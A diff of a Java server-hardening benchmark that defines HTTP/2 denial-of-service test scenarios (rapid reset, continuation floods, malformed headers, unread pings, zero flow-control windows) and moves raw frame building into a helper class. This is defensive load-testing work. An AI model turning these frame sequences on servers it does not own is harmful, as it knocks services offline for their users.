@@ -1,9 +1,9 @@
 package io.serverhardening.benchmarks;
 
-import java.io.ByteArrayOutputStream;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
+import java.util.function.IntFunction;
 
 /**
  * One way to cost a server more than it costs oneself.
@@ -38,10 +38,29 @@ record Attack(String name, int connections, int seconds, int checkAfter, ByteBuf
 				honest("readers-50k", 100, 30, get("/download?kilobytes=1024"), "", 0, 50 * 1024),
 				honest("uploads-50k", 100, 30, post("/upload", 1_048_576), "x".repeat(5 * 1024), 100, ALL),
 				of("pipelining", 1, 12, 10, get("/sleep?ms=8000"), PING.repeat(1000), 0, ALL),
-				of("ping-keeper", 200, 20, 17, http2(frame(1, 5, 1, request())), frame(6, 0, 0, new byte[8]), 1000,
+				of("connections-10k", 10_000, 20, 12, PING, "", 0, ALL),
+				of("h2-ping-keeper", 200, 20, 17, Http2Frames.connection(Http2Frames.get(1, "/ping")),
+						Http2Frames.ping(), 1000, ALL),
+				flood("h2-rapid-reset",
+						(stream) -> Http2Frames.concat(Http2Frames.get(stream, "/ping"), Http2Frames.reset(stream))),
+				flood("h2-heads-without-path", Http2Frames::withoutPath),
+				flood("h2-short-bodies", Http2Frames::shortPost),
+				of("h2-continuations", 20, 8, 6, Http2Frames.connection(Http2Frames.openHead()),
+						Http2Frames.emptyContinuation(), 0, ALL),
+				of("h2-no-method", 100, 33, 30, Http2Frames.connection(Http2Frames.withoutMethod(1)), new byte[0], 0,
 						ALL),
-				of("rapid-reset", 20, 8, 6, http2(new byte[0]), resets(), 0, ALL),
-				of("connections-10k", 10_000, 20, 12, PING, "", 0, ALL));
+				of("h2-open-streams", 20, 33, 30,
+						Http2Frames
+							.connection(Http2Frames.streams(100, (stream) -> Http2Frames.openPost(stream, "/upload"))),
+						new byte[0], 0, ALL),
+				of("h2-no-window", 20, 56, 53,
+						Http2Frames.withoutWindow(Http2Frames.streams(100,
+								(stream) -> Http2Frames.get(stream, "/download?kilobytes=1024"))),
+						new byte[0], 0, ALL),
+				of("h2-pings-unread", 20, 40, 37, Http2Frames.connection(Http2Frames.get(1, "/ping")),
+						Http2Frames.ping(), 1, 0),
+				of("h2-settings-unread", 20, 40, 37, Http2Frames.connection(Http2Frames.get(1, "/ping")),
+						Http2Frames.settings(), 1, 0));
 	}
 
 	private static Attack of(String name, int connections, int seconds, int checkAfter, String opening, String drip,
@@ -53,6 +72,11 @@ record Attack(String name, int connections, int seconds, int checkAfter, ByteBuf
 			int dripMillis, int readRate) {
 		return new Attack(name, connections, seconds, checkAfter, ByteBuffer.wrap(opening), ByteBuffer.wrap(drip),
 				dripMillis, readRate, false);
+	}
+
+	// As fast as the server takes it, and faster than it can answer.
+	private static Attack flood(String name, IntFunction<byte[]> stream) {
+		return of(name, 20, 8, 6, Http2Frames.connection(), Http2Frames.streams(1000, stream), 0, ALL);
 	}
 
 	private static Attack honest(String name, int connections, int seconds, String opening, String drip, int dripMillis,
@@ -72,48 +96,6 @@ record Attack(String name, int connections, int seconds, int checkAfter, ByteBuf
 	private static String post(String path, int length) {
 		return "POST " + path + " HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: " + length
 				+ "\r\n\r\n";
-	}
-
-	private static byte[] http2(byte[] frames) {
-		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
-		bytes.writeBytes(ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
-		bytes.writeBytes(frame(4, 0, 0, new byte[0]));
-		bytes.writeBytes(frames);
-		return bytes.toByteArray();
-	}
-
-	private static byte[] frame(int type, int flags, int stream, byte[] payload) {
-		return ByteBuffer.allocate(9 + payload.length)
-			.put((byte) 0)
-			.putShort((short) payload.length)
-			.put((byte) type)
-			.put((byte) flags)
-			.putInt(stream)
-			.put(payload)
-			.array();
-	}
-
-	// GET http /ping at a, from the static table of HPACK and two literals.
-	private static byte[] request() {
-		ByteArrayOutputStream block = new ByteArrayOutputStream();
-		block.write(0x82);
-		block.write(0x86);
-		block.write(4);
-		block.write(5);
-		block.writeBytes(ascii("/ping"));
-		block.write(1);
-		block.write(1);
-		block.write('a');
-		return block.toByteArray();
-	}
-
-	private static byte[] resets() {
-		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
-		for (int stream = 1; stream < 2000; stream += 2) {
-			bytes.writeBytes(frame(1, 5, stream, request()));
-			bytes.writeBytes(frame(3, 0, stream, new byte[] { 0, 0, 0, 8 }));
-		}
-		return bytes.toByteArray();
 	}
 
 	boolean isHttp2() {
